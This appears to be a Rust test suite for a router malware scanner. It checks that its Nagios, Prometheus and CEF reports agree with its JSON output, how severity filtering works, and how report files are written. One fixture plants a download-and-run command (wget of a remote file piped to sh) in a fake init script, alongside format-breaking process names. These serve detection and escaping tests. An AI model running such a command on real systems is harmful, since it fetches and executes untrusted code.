//! The formats that other programs read, held to their rules by a reader of each, and to what JSON says of the same
//! machine; what of it `--min-severity` leaves out; and the file that `-o` writes.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing)]
#![allow(clippy::arithmetic_side_effects, clippy::as_conversions, missing_docs)]

#[path = "common/golden.rs"]
mod golden;
#[path = "common/scan.rs"]
mod scan;

use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Command;

use scan::{GATEWATCH, Outcome, Ran, Tree, UNSIGNED, clean, need_root, run};
use serde_json::Value;

fn command(root: &Path, format: &str) -> Command {
    let mut command = Command::new(GATEWATCH);
    command.args(["scan", UNSIGNED, "--format", format, "--root"]).arg(root);
    command.arg("--intel").arg(golden::place().join("indicators.gwi"));
    command
}

/// The trees: every recording, and one of an enemy who knows the formats.
fn each_tree(mut test: impl FnMut(&str, &Path, &Outcome)) {
    let hostile = Tree::healthy()
        .process(812, b"a|b=c\"\\\n}", b"/tmp/.x|'y'=1;;;0\\z\n (deleted)", b"x\0")
        .process(813, b"OK - | <script>", b"/tmp/x\n# TYPE x y\nCEF:0|a|b (deleted)", b"x\0")
        .file("etc/init.d/y|z=\"\\\n", "wget http://198.51.100.9/x -O /tmp/x | sh\n/tmp/x =1|2;;\\\n");
    let recordings = golden::names().0.into_iter().map(|name| golden::place().join(name));
    for root in recordings.chain([hostile.path().to_owned()]) {
        let outcome = Outcome::of(run(command(&root, "json").arg("-v")));
        test(&root.display().to_string(), &root, &outcome);
    }
}

fn told(command: &mut Command) -> (i32, String) {
    let Ran { status, stdout, stderr } = run(command);
    assert_eq!(stderr, "");
    (status, clean(&stdout).to_owned())
}

/// `'label'=value[unit];warn;crit;min;max`, by the Monitoring Plugins guidelines. Returns label, value, and whether a
/// threshold for a warning and for a critical state is passed.
fn performance(data: &str) -> BTreeMap<String, (f64, [bool; 2])> {
    let number = |text: &str| {
        assert!(text.chars().all(|c| "-0123456789.".contains(c)), "{text:?} is no number");
        text.parse::<f64>().unwrap_or_else(|e| panic!("{text:?}: {e}"))
    };
    let mut all = BTreeMap::new();
    for item in data.split(' ') {
        let (label, rest) = item.split_once('=').unwrap_or_else(|| panic!("no = in {item:?}"));
        assert!(!label.is_empty() && !label.contains('\''), "{item:?}: this label wants quotes");
        let fields: Vec<&str> = rest.split(';').collect();
        assert!(fields.len() <= 5, "{item:?}");
        let unit = fields[0].trim_start_matches(|c: char| "-0123456789.".contains(c));
        assert!(["", "s", "us", "ms", "%", "B", "c"].contains(&unit), "{item:?}: unit {unit:?}");
        let value = number(&fields[0][..fields[0].len() - unit.len()]);
        // A range that is a number alone begins at 0.
        let passed =
            [1, 2].map(|at| fields.get(at).is_some_and(|end| !end.is_empty() && value > number(end)));
        for limit in fields.iter().skip(3).filter(|limit| !limit.is_empty()) {
            number(limit);
        }
        assert!(all.insert(label.to_owned(), (value, passed)).is_none(), "{label} twice");
    }
    all
}

#[test]
fn a_plugin_is_read_as_it_is_meant() {
    each_tree(|name, root, json| {
        let (status, text) = told(&mut command(root, "nagios"));
        let (head, rest) = text.split_once('\n').unwrap();
        assert_eq!((status, text.matches('|').count()), (json.status, 1), "{name}: {text}");
        assert!(!text.contains(['<', '>']), "{name}: a page may take it for HTML: {text}");
        assert!(head.len() < 1024 && text.len() < 8192, "{name}: {text}");
        let (words, data) = head.split_once(" | ").unwrap();
        let state = ["OK", "WARNING", "CRITICAL", "UNKNOWN"][status as usize];
        assert!(words.starts_with(&format!("GATEWATCH {state} - ")), "{name}: {head}");
        let data = performance(data);
        for key in
            ["infected", "suspicious", "notice", "checks", "blind", "processes", "sockets", "flows", "files"]
        {
            assert_eq!(data[key].0, json.summary[key].as_f64().unwrap(), "{name}: {key}");
        }
        assert_eq!(data["intel_age"].0, json.summary["intel"]["age_days"].as_f64().unwrap() * 86_400.0);
        assert!(data["elapsed"].0 > 0.0);
        // Whoever judges by the data comes to the same as by the status.
        let passed = |at: usize| data.values().any(|(_, passed)| passed[at]);
        assert_eq!((passed(0), passed(1)), (data["suspicious"].0 > 0.0, status == 2), "{name}: {head}");
        let of =
            |severity: &str| rest.lines().filter(|line| line.starts_with(&format!("{severity} "))).count();
        let left =
            rest.lines().last().and_then(|line| line.strip_prefix("and ")?.strip_suffix(" more lines"));
        let left: usize = left.map_or(0, |left| left.parse().unwrap());
        let blind =
            json.checks.iter().filter(|row| ["no", "partly"].contains(&row["looked"].as_str().unwrap()));
        assert_eq!(
            of("infected") + of("suspicious") + of("notice") + of("looked") + left,
            json.incidents.len() + json.findings.len() + blind.count(),
            "{name}: {text}"
        );
    });
}

/// Reads the text format, version 0.0.4. Returns each sample by its whole name.
fn metrics(text: &str) -> BTreeMap<String, f64> {
    let is_name = |name: &str| {
        name.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
            && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
    };
    let (mut samples, mut seen, mut current) = (BTreeMap::new(), BTreeSet::new(), String::new());
    let mut lines = text.lines().peekable();
    while let Some(line) = lines.next() {
        if let Some(help) = line.strip_prefix("# HELP ") {
            let (name, words) = help.split_once(' ').unwrap();
            assert!(is_name(name) && !words.is_empty() && !words.contains('\\'), "{line}");
            assert_eq!(lines.next(), Some(format!("# TYPE {name} gauge").as_str()), "{line}");
            assert!(seen.insert(name.to_owned()), "{name} twice");
            name.clone_into(&mut current);
            continue;
        }
        let (series, number) = line.rsplit_once(' ').unwrap_or_else(|| panic!("{line:?}"));
        let (name, labels) = series.split_once('{').map_or((series, None), |(name, rest)| (name, Some(rest)));
        assert_eq!(name, current, "{line}: each metric stands together, behind what it is");
        if let Some(labels) = labels {
            let mut rest = labels.strip_suffix('}').unwrap_or_else(|| panic!("{line:?}"));
            while !rest.is_empty() {
                let (label, value) = rest.split_once("=\"").unwrap_or_else(|| panic!("{line:?}"));
                assert!(is_name(label), "{line}");
                let mut bytes = value.char_indices();
                let end = loop {
                    match bytes.next().unwrap_or_else(|| panic!("{line:?}: no end")) {
                        (at, '"') => break at,
                        (_, '\\') => assert!(matches!(bytes.next(), Some((_, '\\' | '"' | 'n'))), "{line:?}"),
                        _ => {}
                    }
                };
                rest = &value[end + 1..];
                rest = rest.strip_prefix(',').unwrap_or(rest);
            }
        }
        let number = number.parse().unwrap_or_else(|e| panic!("{line:?}: {e}"));
        assert!(samples.insert(series.to_owned(), number).is_none(), "{line}: the same series twice");
    }
    samples
}

#[test]
fn metrics_are_what_json_says_and_only_stories_name_anybody() {
    let mut clients = 0;
    each_tree(|name, root, json| {
        let (status, text) = told(command(root, "prom").args(["--device", "router-1"]));
        assert_eq!(status, json.status, "{name}");
        let samples = metrics(&text);
        for severity in ["infected", "suspicious", "notice"] {
            let sample = samples[&format!("gatewatch_findings{{severity=\"{severity}\"}}")];
            assert_eq!(sample, json.summary[severity].as_f64().unwrap(), "{name}: {severity}");
        }
        for (metric, key) in [
            ("checks", "checks"),
            ("checks_blind", "blind"),
            ("processes", "processes"),
            ("sockets", "sockets"),
            ("flows", "flows"),
            ("startup_files", "files"),
        ] {
            assert_eq!(
                samples[&format!("gatewatch_{metric}")],
                json.summary[key].as_f64().unwrap(),
                "{name}"
            );
        }
        let verdict = json.summary["verdict"].as_str().unwrap();
        for word in ["clean", "suspicious", "infected", "incomplete"] {
            let sample = samples[&format!("gatewatch_verdict{{verdict=\"{word}\"}}")];
            assert_eq!(sample, f64::from(word == verdict), "{name}");
        }
        for row in &json.checks {
            let check = row["check"].as_str().unwrap();
            let looked = samples.get(&format!("gatewatch_check_looked{{check=\"{check}\"}}"));
            let expected = match row["looked"].as_str().unwrap() {
                "yes" => Some(&1.0),
                "partly" => Some(&0.5),
                "no" => Some(&0.0),
                _ => None,
            };
            assert_eq!(looked, expected, "{name}: {row}");
            let findings = samples.get(&format!("gatewatch_check_findings{{check=\"{check}\"}}"));
            assert_eq!(findings.copied(), expected.and(row["findings"].as_f64()), "{name}: {row}");
        }
        let entries = json.summary["intel"]["entries"].as_f64().unwrap();
        assert_eq!(samples["gatewatch_intel_entries"], entries);
        assert!(samples["gatewatch_last_run_timestamp_seconds"] > 1.7e9);
        assert!((0.0..30.0).contains(&samples["gatewatch_scan_duration_seconds"]));
        let stories: Vec<&str> =
            text.lines().filter(|line| line.starts_with("gatewatch_incident{")).collect();
        assert_eq!(stories.len(), json.incidents.len().min(8), "{name}");
        for (line, incident) in stories.iter().zip(&json.incidents) {
            let severity = incident["severity"].as_str().unwrap();
            assert!(line.contains(&format!("severity=\"{severity}\"")), "{name}: {line}");
            // What is escaped for a label is another text than what is escaped for JSON.
            let story = incident["story"].as_str().unwrap();
            assert!(
                story.contains(['\\', '"']) || line.contains(&format!("story=\"{story}\"")),
                "{name}: {line}"
            );
        }
        let numbers: String = text.lines().filter(|line| !stories.contains(line)).collect();
        for row in &json.findings {
            for word in ["path", "name", "client", "remote"].iter().filter_map(|key| row[key].as_str()) {
                assert!(
                    word.len() < 3 || !numbers.contains(&format!("\"{word}")),
                    "{name}: {word} is in {text}"
                );
            }
            clients += usize::from(row["client"].is_string());
        }
        assert!(!numbers.contains("lan-"), "{name}: {text}");
    });
    assert!(clients > 0, "no recording accuses a client: is the test blind?");
}

/// Reads a line of CEF:0: the seven fields of the header and the extension.
fn event(line: &str) -> (Vec<String>, BTreeMap<String, String>) {
    let (mut fields, mut field, mut chars) = (Vec::new(), String::new(), line.chars());
    while fields.len() < 7 {
        match chars.next().unwrap_or_else(|| panic!("{line:?} ends in its header")) {
            '|' => fields.push(std::mem::take(&mut field)),
            '\\' => match chars.next() {
                Some(c @ ('|' | '\\')) => field.push(c),
                other => panic!("{line:?}: \\ and {other:?} in its header"),
            },
            c => field.push(c),
        }
    }
    let (mut values, mut key) = (BTreeMap::<String, String>::new(), String::new());
    let mut word = String::new();
    while let Some(c) = chars.next() {
        match c {
            // A key is the word before an equals sign that is not escaped.
            '=' => {
                let at = word.rfind(' ').map_or(0, |at| at + 1);
                let next = word.split_off(at);
                assert!(
                    !next.is_empty() && next.chars().all(|c| c.is_ascii_alphanumeric()),
                    "{line:?}: {next:?}"
                );
                let value = std::mem::take(&mut word);
                if !key.is_empty() {
                    values.insert(key, value.strip_suffix(' ').unwrap().to_owned());
                }
                assert!(!values.contains_key(&next), "{line:?}: {next} twice");
                key = next;
            }
            '\\' => match chars.next() {
                Some(c @ ('=' | '\\')) => word.push(c),
                other => panic!("{line:?}: \\ and {other:?} in its extension"),
            },
            c => word.push(c),
        }
    }
    values.insert(key, word);
    (fields, values)
}

#[test]
fn events_are_what_json_says() {
    // Of the extension dictionary: the longest value of each key.
    let dictionary: BTreeMap<&str, usize> = [
        ("cat", 1023),
        ("rt", 20),
        ("dvchost", 100),
        ("spid", 10),
        ("sproc", 1023),
        ("suid", 1023),
        ("filePath", 1023),
        ("src", 15),
        ("spt", 5),
        ("dst", 15),
        ("dpt", 5),
        ("c6a2", 39),
        ("c6a3", 39),
        ("cs1", 4000),
        ("cs2", 4000),
        ("cs3", 4000),
        ("cn1", 20),
        ("cn2", 20),
        ("cn3", 20),
        ("msg", 1023),
    ]
    .into();
    each_tree(|name, root, json| {
        let (status, text) = told(command(root, "cef").args(["-v", "--device", "router-1"]));
        assert_eq!(status, json.status, "{name}");
        let mut findings = json.findings.iter();
        let mut incidents = json.incidents.iter();
        let mut checks = json.checks.iter();
        for line in text.lines() {
            let (header, values) = event(line);
            assert_eq!(header[..4], ["CEF:0", "gatewatch", "gatewatch", env!("CARGO_PKG_VERSION")], "{line}");
            assert!((0..=10).contains(&header[6].parse::<u8>().unwrap()), "{line}");
            for (key, value) in &values {
                let of = key.strip_suffix("Label").unwrap_or(key);
                assert!(value.len() <= dictionary[of] && !value.is_empty(), "{name}: {key} in {line}");
                // Whatever has no meaning of its own says what it is.
                let custom = ["cs", "cn", "c6a"].iter().any(|custom| of.starts_with(custom));
                assert!(!custom || values.contains_key(&format!("{of}Label")), "{line}");
            }
            assert_eq!(values["dvchost"], "router-1");
            let same = |row: &Value, pairs: &[(&str, &str)]| {
                for (key, field) in pairs {
                    let expected = match &row[field] {
                        Value::String(text) if text.len() <= 900 => Some(text.clone()),
                        Value::String(_) => continue,
                        Value::Null => None,
                        number => Some(number.to_string()),
                    };
                    assert_eq!(values.get(*key), expected.as_ref(), "{name}: {field} of {row}");
                }
            };
            match values["cat"].as_str() {
                "incident" => {
                    let row = incidents.next().unwrap();
                    assert_eq!(header[4], "incident");
                    let pairs = [
                        ("spid", "pid"),
                        ("filePath", "path"),
                        ("cs2", "family"),
                        ("cs3", "client"),
                        ("cn1", "number"),
                        ("cn2", "count"),
                        ("msg", "story"),
                    ];
                    same(row, &pairs);
                    let checks: Vec<_> =
                        row["findings"].as_array().unwrap().iter().map(|id| id.as_str().unwrap()).collect();
                    assert_eq!(values["cs1"], checks.join(","), "{line}");
                }
                "finding" => {
                    let row = findings.next().unwrap();
                    assert_eq!(header[4], row["check"].as_str().unwrap());
                    let level = match row["severity"].as_str().unwrap() {
                        "infected" => "9",
                        "suspicious" => "6",
                        _ => "3",
                    };
                    assert_eq!(header[6], level, "{line}");
                    assert!(!header[5].is_empty(), "{line}");
                    let pairs = [
                        ("spid", "pid"),
                        ("sproc", "name"),
                        ("suid", "uid"),
                        ("filePath", "path"),
                        ("cs1", "attack"),
                        ("cs2", "family"),
                        ("cs3", "client"),
                        ("cn1", "line"),
                        ("msg", "detail"),
                    ];
                    same(row, &pairs);
                    for (field, v4, v6, port) in
                        [("local", "src", "c6a2", "spt"), ("remote", "dst", "c6a3", "dpt")]
                    {
                        let at =
                            values.get(v4).cloned().or_else(|| values.get(v6).map(|ip| format!("[{ip}]")));
                        let end = at.map(|at| format!("{at}:{}", values[port]));
                        assert_eq!(end.as_deref(), row[field].as_str(), "{name}: {field} of {row}");
                    }
                }
                "check" => {
                    same(checks.next().unwrap(), &[("cs1", "check"), ("cs2", "looked"), ("msg", "why")])
                }
                _ => {
                    let pairs =
                        [("cs1", "verdict"), ("cn1", "infected"), ("cn2", "suspicious"), ("cn3", "notice")];
                    same(&json.summary, &pairs);
                }
            }
        }
        assert_eq!(
            (findings.next(), incidents.next(), checks.next()),
            (None, None, None),
            "{name}: all are told"
        );
        assert!(text.lines().last().unwrap().contains("|cat=summary "), "{name}");
    });
}

/// The readers above refuse what breaks the formats, so that the tests can fail.
#[test]
fn broken_reports_are_refused() {
    let refused = |read: fn(&str)| {
        move |text: &str| {
            let text = text.to_owned();
            assert!(std::panic::catch_unwind(|| read(&text)).is_err(), "{text:?} was taken");
        }
    };
    let data = refused(|text| drop(performance(text)));
    ["a b=1", "a=x", "a=1;;;0;0;0", "a=1kg", "a=1 a=2", "a=", "a'b=1", "a=1  b=2"]
        .iter()
        .for_each(|it| data(it));
    let text = refused(|text| drop(metrics(text)));
    let good = "# HELP a b\n# TYPE a gauge\na{c=\"\\\"\"} 1\n";
    metrics(good);
    for (from, to) in
        [("\\\"\"", "\\x\""), ("# TYPE a gauge\n", ""), (" 1", " x"), ("\na{", "\nb{"), ("\"}", "}")]
    {
        text(&good.replace(from, to));
    }
    text(&format!("{good}a{{c=\"\\\"\"}} 2\n"));
    let line = refused(|text| drop(event(text)));
    event("CEF:0|a|b|c|d|e|1|k=v l=w");
    for broken in
        ["CEF:0|a|b", "CEF:0|a\\b|b|c|d|e|1|k=v", "CEF:0|a|b|c|d|e|1|k=v=w", "CEF:0|a|b|c|d|e|1|k=v\\n"]
    {
        line(broken);
    }
}

fn recording(name: &str) -> PathBuf {
    golden::place().join(name)
}

/// What is left out is said, is left out everywhere, and changes neither counts nor verdict.
#[test]
fn mild_findings_are_left_out_and_counted() {
    let bot = recording("tplink-wr841n-openwrt-mips-bot");
    let all = Outcome::of(run(command(&bot, "json").arg("-v")));
    let count = |severity: &str| all.with("severity", severity).len();
    let mild = count("suspicious") + count("notice");
    assert!(mild > count("notice") && count("notice") > 0 && count("infected") > 0);
    for (least, hidden) in [("notice", 0), ("suspicious", count("notice")), ("infected", mild)] {
        let part = |format| {
            let mut command = command(&bot, format);
            command.args(["--min-severity", least]);
            command
        };
        let json = Outcome::of(run(part("json").arg("-v")));
        assert_eq!(json.status, 2);
        assert_eq!(json.findings.len(), all.findings.len() - hidden, "{least}");
        assert_eq!(json.summary["hidden"].as_u64().unwrap_or_default(), hidden as u64);
        assert_eq!(json.summary.get("hidden").is_some(), hidden > 0);
        for key in ["verdict", "infected", "suspicious", "notice"] {
            assert_eq!(json.summary[key], all.summary[key], "{least}: {key}");
        }
        assert_eq!(json.checks, all.checks, "what checks have found is not hidden");
        let words = ["notice", "suspicious", "infected"];
        let too_mild = &words[..words.iter().position(|word| *word == least).unwrap()];
        let (_, text) = told(&mut part("text"));
        let (_, nagios) = told(&mut part("nagios"));
        for word in too_mild {
            let told = |text: &str| text.lines().any(|line| line.starts_with(&format!("{word} ")));
            assert!(!told(&text) && !told(&nagios), "{least}: {text}{nagios}");
        }
        let (_, cef) = told(&mut part("cef"));
        let told = all.findings.len() - hidden + json.incidents.len() + 1;
        assert_eq!(cef.lines().count(), told, "{least}: {cef}");
        let said = format!("({hidden} not shown)");
        assert_eq!((text.contains(&said), nagios.contains(&said)), (hidden > 0, hidden > 0), "{least}");
        assert_eq!(cef.contains(&format!("; {hidden} findings not shown")), hidden > 0, "{least}: {cef}");
        let (_, log) = golden::logged(part("json"));
        let closing = log.last().unwrap();
        assert_eq!(log.len(), told, "{least}: {log:?}");
        assert_eq!(closing.contains(&format!(" hidden={hidden}\n")), hidden > 0, "{least}: {closing}");
    }
    // A verdict stands, even if nothing of it is shown.
    let mut names = golden::names().0.into_iter();
    let odd =
        names.find(|name| golden::about(name, "state") == "suspicious").expect("one is suspicious only");
    let json = Outcome::of(run(command(&recording(&odd), "json").args(["-v", "--min-severity", "infected"])));
    assert_eq!((json.status, json.findings.len(), &json.summary["verdict"]), (1, 0, &"suspicious".into()));
    let (status, text) = told(command(&recording(&odd), "nagios").args(["--min-severity", "infected"]));
    assert!(status == 1 && text.starts_with("GATEWATCH WARNING - suspicious: 0 infected, "), "{text}");
}

/// A file has the report and nobody else may read it, but for metrics, which others come for.
#[test]
fn a_report_goes_into_a_file() {
    let bot = recording("tplink-wr841n-openwrt-mips-bot");
    let place = tempfile::tempdir().unwrap();
    for (format, mode) in
        [("json", 0o600), ("text", 0o600), ("prom", 0o644), ("nagios", 0o600), ("cef", 0o600)]
    {
        let file = place.path().join(format!("report.{format}"));
        for umask in ["077", "000"] {
            fs::write(&file, "the old one\n".repeat(1000)).unwrap();
            fs::set_permissions(&file, PermissionsExt::from_mode(0o640)).unwrap();
            let Ran { status, stdout, stderr } = run(Command::new("sh")
                .args(["-c", r#"umask "$1"; shift; exec "$@""#, "sh", umask])
                .arg(GATEWATCH)
                .args(command(&bot, format).get_args())
                .arg("-o")
                .arg(&file));
            assert_eq!((status, stdout.is_empty(), stderr.as_str()), (2, true, ""), "{format}");
            assert_eq!(fs::metadata(&file).unwrap().permissions().mode() & 0o7777, mode, "{format}, {umask}");
            let (_, said) = told(&mut command(&bot, format));
            let lines = |text: &str| text.lines().count();
            let report = fs::read_to_string(&file).unwrap();
            assert_eq!(
                (lines(&report), clean(report.as_bytes())),
                (lines(&said), report.as_str()),
                "{format}"
            );
        }
    }
    assert_eq!(fs::read_dir(&place).unwrap().count(), 5, "nothing else is there");
    // Nothing to say is a report too.
    let file = place.path().join("report.text");
    let (status, _) = told(
        command(&recording("tplink-archerc7-openwrt-mips"), "text")
            .args(["-q", "--min-severity"])
            .arg("infected")
            .arg("--output")
            .arg(&file),
    );
    assert_eq!((status, fs::read_to_string(&file).unwrap().as_str()), (0, ""));
}

/// A kernel or a file system that gives no file without a name, here for want of /proc, and what a killed run left there.
#[test]
fn a_file_that_has_a_name_before_it_is_whole() {
    need_root();
    let clean = recording("tplink-archerc7-openwrt-mips");
    let place = tempfile::tempdir().unwrap();
    let file = place.path().join("report");
    fs::write(&file, "old").unwrap();
    fs::write(place.path().join("report.new"), "half").unwrap();
    let Ran { status, stderr, .. } = run(Command::new("unshare")
        .args(["-m", "sh", "-c", r#"umount -l /proc && exec "$@""#, "sh", GATEWATCH])
        .args(command(&clean, "json").get_args())
        .arg("-o")
        .arg(&file));
    assert_eq!((status, stderr.as_str()), (0, ""));
    assert!(fs::read_to_string(&file).unwrap().contains("\"verdict\":\"clean\""));
    assert_eq!(fs::metadata(&file).unwrap().permissions().mode() & 0o7777, 0o600);
    assert_eq!(fs::read_dir(&place).unwrap().count(), 1, "what another left is gone");
}

#[test]
fn what_cannot_be_written_is_said_and_the_old_report_stays() {
    let clean = recording("tplink-archerc7-openwrt-mips");
    let place = tempfile::tempdir().unwrap();
    nix::unistd::mkfifo(&place.path().join("fifo"), nix::sys::stat::Mode::S_IRWXU).unwrap();
    for (file, why) in [("no/such", "not found"), ("", "a directory"), ("fifo", "a named pipe")] {
        let file = place.path().join(file);
        let Ran { status, stdout, stderr } = run(command(&clean, "json").arg("-o").arg(&file));
        let said = format!("gatewatch: {}: {why}", file.display());
        assert!(stderr.starts_with(&said) && stderr.lines().count() == 1, "{said}: {stderr}");
        assert_eq!((status, stdout.len()), (3, 0), "what could not be reported was not done");
    }
    // A disk that is full before the report is whole.
    need_root();
    let script = r#"mount -t tmpfs -o size=8k none "$1" && echo old >"$1/report" && shift &&
        "$@"; echo "status $?"; place=${*: -1}; cat "$place"; ls -A "${place%/*}""#;
    let file = place.path().join("report");
    let Ran { stdout, stderr, .. } = run(Command::new("unshare")
        .args(["-m", "bash", "-c", script, "bash"])
        .arg(place.path())
        .arg(GATEWATCH)
        .args(command(&clean, "json").get_args())
        .args(["-v", "-o"])
        .arg(&file));
    assert_eq!(String::from_utf8(stdout).unwrap(), "status 3\nold\nreport\n", "{stderr}");
    assert!(stderr.contains("report: ") && stderr.contains("what was there before stays"), "{stderr}");
    assert_eq!(stderr.lines().count(), 1, "{stderr}");
}
